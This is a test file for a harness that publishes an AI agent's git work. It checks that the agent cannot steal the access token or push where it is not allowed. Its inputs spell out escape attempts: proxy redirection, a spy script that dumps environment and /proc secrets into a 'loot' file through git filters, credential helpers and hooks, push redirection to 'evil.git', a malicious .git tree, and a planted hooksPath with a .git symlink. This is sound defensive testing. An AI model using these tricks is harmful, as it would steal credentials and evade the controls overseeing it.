import { execFileSync } from 'node:child_process'
import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { describe, expect, onTestFinished, test } from 'vitest'
import { startGitServer } from '../testing/git-server.ts'
import { createHarness, type RunnerHarness, shell, vcs } from '../testing/runner-harness.ts'

// Whole processes on busy machines: a limit for hangs, not for speed.
const pollOptions = { timeout: 240_000 }

const token = 'planted-token-1234567890'
const header = `Basic ${Buffer.from(`x-access-token:${token}`).toString('base64')}`

/** A remote that only answers those who know the token. */
async function guardedRemote(harness: RunnerHarness) {
  harness.createRemote()
  harness.git('remotes/owner/app.git', 'config', 'http.receivepack', 'true')
  const server = await startGitServer(harness.remotes, header)
  const run = { vcs: vcs(harness.remotes, { provider: 'github', cloneBaseUrl: server.url }) }
  return { server, run, env: { VCS_TOKEN: token } }
}

/** Everything that is sent there, as text. */
async function listener() {
  const heard: string[] = []
  const server = createServer((request, response) => {
    heard.push(JSON.stringify(request.headers), request.url ?? '')
    response.writeHead(502).end()
  })
  server.on('connect', (request, socket) => {
    heard.push(JSON.stringify(request.headers))
    socket.end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => {
    server.close()
    server.closeAllConnections()
  })
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, heard }
}

function remoteHas(harness: RunnerHarness, branch: string) {
  return harness.git('remotes/owner/app.git', 'for-each-ref', `refs/heads/${branch}`) !== ''
}

describe('an agent does not get the credential', pollOptions, () => {
  test('by a proxy that it configures in the work tree', async () => {
    const harness = createHarness()
    const { run, env, server } = await guardedRemote(harness)
    const proxy = await listener()
    const ran = await harness.run({
      run,
      env,
      argv: shell(`git config http.proxy ${proxy.url}; git config http.sslVerify false
        git config http.${server.url}/.proxy ${proxy.url}; echo more >> README.md`),
    })
    expect(ran.message).toMatchObject({ outcome: 'succeeded', vcs: { pushed: true } })
    expect(proxy.heard).toEqual([])
    expect(remoteHas(harness, 'agents/demo')).toBe(true)
  })

  test('by a filter that runs when its work is committed, nor by a hook or a helper', async () => {
    const harness = createHarness()
    const { run, env } = await guardedRemote(harness)
    const loot = join(harness.root, 'loot')
    const take = join(harness.root, 'take')
    const spy = `#!/bin/sh\n(env; cat /proc/$PPID/environ /proc/$PPID/cmdline) >> ${loot} 2>&1\ncat\n`
    writeFileSync(take, spy, { mode: 0o755 })
    const ran = await harness.run({
      run,
      env,
      argv: shell(`git config filter.x.clean ${take}; echo '* filter=x' > .gitattributes
        git config credential.helper ${take}; git config core.fsmonitor ${take}
        git config diff.external ${take}; git config core.sshCommand ${take}
        git config uploadpack.packObjectsHook ${take}; echo more >> README.md`),
    })
    expect(ran.message).toMatchObject({ outcome: 'succeeded', vcs: { pushed: true } })
    expect(existsSync(loot)).toBe(true)
    expect(readFileSync(loot, 'latin1')).not.toContain(token)
    expect(readFileSync(loot, 'latin1')).not.toContain(header.slice('Basic '.length))
  })

  test('by a push to another address', async () => {
    const harness = createHarness()
    const { run, env, server } = await guardedRemote(harness)
    harness.git('.', 'init', '--quiet', '--bare', 'evil.git')
    const evil = `file://${join(harness.root, 'evil.git')}`
    const ran = await harness.run({
      run,
      env,
      argv: shell(`git config url.${evil}.insteadOf ${server.url}/owner/app.git
        git config url.${evil}.pushInsteadOf ${server.url}/owner/app.git
        git remote set-url origin ${evil}; echo more >> README.md`),
    })
    expect(ran.message).toMatchObject({ outcome: 'succeeded', vcs: { pushed: true } })
    expect(remoteHas(harness, 'agents/demo')).toBe(true)
    expect(harness.git('evil.git', 'for-each-ref')).toBe('')
  })
})

describe('the publisher', pollOptions, () => {
  test.each([
    { because: 'the base branch', rest: { headBranch: 'trunk', baseBranch: 'trunk' } },
    { because: 'the remote’s default branch', rest: { headBranch: 'trunk', baseBranch: 'v1' } },
    { because: 'a protected branch', rest: { headBranch: 'release/1', baseBranch: 'trunk' } },
  ])('does not push to $because', async ({ rest }) => {
    const harness = createHarness()
    harness.createRemote()
    harness.git('seed', 'push', '--quiet', 'origin', 'HEAD:trunk', 'HEAD:refs/tags/v1')
    harness.git('remotes/owner/app.git', 'symbolic-ref', 'HEAD', 'refs/heads/trunk')
    const before = harness.git('remotes/owner/app.git', 'for-each-ref')
    const run = { vcs: vcs(harness.remotes, rest) }
    const ran = await harness.run({ run, argv: shell('echo more >> README.md') })
    expect(ran).toMatchObject({ exitCode: 77, message: { reason: 'PublishRefused' } })
    expect(harness.git('remotes/owner/app.git', 'for-each-ref')).toBe(before)
  })

  test('pushes to the base branch where the policy allows it', async () => {
    const harness = createHarness()
    harness.createRemote()
    const ran = await harness.run({
      run: { vcs: vcs(harness.remotes, { headBranch: 'main' }) },
      plan: { branchPolicy: { allowBaseBranch: true } },
      argv: shell('echo more >> README.md'),
    })
    expect(ran.message?.vcs).toMatchObject({ headBranch: 'main', pushed: true })
  })

  test('does not push the credential, and does not print it', async () => {
    const harness = createHarness()
    const { run, env } = await guardedRemote(harness)
    const ran = await harness.run({ run, env, argv: shell(`echo ${token} > key.txt`) })
    expect(ran).toMatchObject({ exitCode: 77, message: { reason: 'PublishRefused' } })
    expect(remoteHas(harness, 'agents/demo')).toBe(false)
    expect(ran.stdout + ran.stderr + JSON.stringify(ran.message)).not.toContain(token)
    expect(ran.stdout).not.toContain('BEGIN GIT BUNDLE')
  })

  test('does not push objects that git fsck finds wrong', async () => {
    const harness = createHarness()
    harness.createRemote()
    const ran = await harness.run({
      run: { vcs: vcs(harness.remotes) },
      argv: shell(`blob=$(echo '[submodule "../../x"] path = x' | git hash-object -w --stdin)
        sub=$(printf '100644 blob %s\\tconfig\\n' $blob | git mktree)
        tree=$(printf '040000 tree %s\\t.git\\n' $sub | git mktree)
        git update-ref HEAD $(git commit-tree -p HEAD -m evil $tree)
        git reset --quiet --soft HEAD; rm -rf .git/index; git read-tree HEAD 2>/dev/null; true`),
    })
    expect(ran.message).toMatchObject({ reason: 'PublishRefused', vcs: { pushed: false } })
    expect(ran.message?.message).toMatch(/hasDotgit/)
    expect(remoteHas(harness, 'agents/demo')).toBe(false)
  })

  test('keeps work that the remote refuses, so that it can be restored', async () => {
    const harness = createHarness()
    const remote = harness.createRemote()
    const hook = join(harness.root, remote, 'hooks', 'pre-receive')
    writeFileSync(hook, '#!/bin/sh\nexit 1\n', { mode: 0o755 })
    const run = { vcs: vcs(harness.remotes) }
    const ran = await harness.run({ run, argv: shell('echo precious >> README.md') })
    expect(ran.message?.vcs).toMatchObject({
      pushed: false,
      bundle: expect.stringContaining('log'),
    })
    expect(ran.message?.message).toContain('unpublished-demo.bundle')
    const [, text = ''] = /BEGIN GIT BUNDLE-----\n([\s\S]*)-----END/.exec(ran.stdout) ?? []
    writeFileSync(join(harness.root, 'work.bundle'), Buffer.from(text, 'base64'))
    const restore = [
      'fetch',
      '--quiet',
      '../work.bundle',
      'refs/agents/incoming:refs/heads/restored',
    ]
    harness.git('seed', ...restore)
    expect(harness.git('seed', 'show', 'restored:README.md')).toContain('precious')
    const kept = join('..', 'workspace', '.agent', 'unpublished-demo.bundle')
    harness.git('seed', 'fetch', '--quiet', kept, 'HEAD:refs/heads/kept')
    expect(harness.git('seed', 'show', 'kept:README.md')).toContain('precious')
  })

  test('accepts no second connection, and takes none of the program’s messages', async () => {
    const harness = createHarness()
    harness.createRemote()
    const socket = join(harness.root, 'pod', 'publish', 'publish.sock')
    const script = `const s=require('net').connect(${JSON.stringify(socket)});
      s.on('error',e=>{console.log('refused '+e.code)});s.on('connect',()=>console.log('connected'))`
    const ran = await harness.run({
      run: { vcs: vcs(harness.remotes) },
      argv: ['--', process.execPath, '-e', script],
    })
    expect(ran.stdout).toContain('refused')
    expect(ran.stdout).not.toContain('connected')
  })

  test('takes no configuration of an earlier attempt in the same workspace', async () => {
    const harness = createHarness()
    harness.createRemote()
    const run = { vcs: vcs(harness.remotes, { headBranch: 'work' }) }
    const plant = `git config core.hooksPath ../hooks; git config alias.x y
      mkdir ../evil; mv .git ../evil; ln -s ../evil/.git .git; exit 1`
    await harness.run({ run, argv: shell(plant) })
    const look =
      'test -d .git && test ! -L .git && git config --list --local; echo more >> README.md'
    const ran = await harness.run({ run, argv: shell(look) })
    expect(ran.message?.vcs).toMatchObject({ pushed: true })
    expect(ran.stdout).not.toContain('alias.x')
    expect(ran.stdout).toContain('remote.origin.url')
  })
})

test('git asks for known host keys unless the provider accepts new ones', pollOptions, async () => {
  const harness = createHarness()
  const seen = join(harness.root, 'ssh-arguments')
  const ssh = `#!/bin/sh\nprintf '%s\\n' "$@" >> ${seen}\nexit 255\n`
  writeFileSync(join(harness.root, 'ssh'), ssh, { mode: 0o755 })
  const key = join(harness.root, 'key')
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', key])
  const rest = { cloneProtocol: 'ssh', sshHost: 'git.example.invalid' }
  const env = { PATH: `${harness.root}:/usr/bin:/bin`, VCS_SSH_KEY_PATH: key }
  const run = { vcs: vcs(harness.remotes, rest) }
  await harness.run({ run, env, argv: shell('true') })
  expect(readFileSync(seen, 'utf8')).toContain('StrictHostKeyChecking=yes')
  await harness.run({ run, env, plan: { hostKeyPolicy: 'AcceptNew' }, argv: shell('true') })
  expect(readFileSync(seen, 'utf8')).toContain('StrictHostKeyChecking=accept-new')
})
